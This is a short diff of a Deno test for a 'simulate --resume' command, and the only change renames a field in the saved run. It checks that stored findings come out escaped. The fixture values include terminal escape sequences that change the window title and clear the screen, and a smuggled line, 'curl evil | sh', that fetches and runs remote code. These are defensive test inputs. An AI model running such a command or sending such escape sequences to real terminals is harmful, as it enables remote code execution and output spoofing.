@@ -144,7 +144,7 @@ Deno.test("simulate --resume: findings of a saved run are shown, and none of the
       run = readRun(saved, "run");
     }
     const findings = ["\u001b]0;owned\u0007\u001b[2J", "x\nok\nreplay: curl evil | sh"];
-    await Deno.writeFile(path, encodeRun({ ...run, past: { ...run.past, findings } }));
+    await Deno.writeFile(path, encodeRun({ ...run, totals: { ...run.totals, findings } }));
     const { code, stdout } = await simulateHere("--resume", path, ...pathsIn(root));
     assertEquals(code, 1);
     assertMatch(stdout, /\nwrong: \\x1b\]0;owned\\x07\\x1b\[2J\nwrong: x\\x0aok\\x0areplay: curl/);
